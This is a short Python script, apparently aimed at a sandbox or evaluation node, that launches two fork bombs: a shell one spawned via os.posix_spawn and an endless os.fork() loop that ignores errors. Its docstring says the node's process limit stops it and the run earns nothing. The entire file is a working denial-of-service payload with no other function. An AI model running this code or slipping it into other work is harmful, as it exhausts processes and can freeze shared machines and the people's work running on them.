"""Forks without end, in Python and in a shell. The node refuses at its limit; the run earns nothing."""

import os

os.posix_spawn("/bin/sh", ["sh", "-c", "bomb() { bomb | bomb & }; while true; do bomb; done"], {"PATH": "/bin"})
while True:
    try:
        os.fork()
    except OSError:
        pass
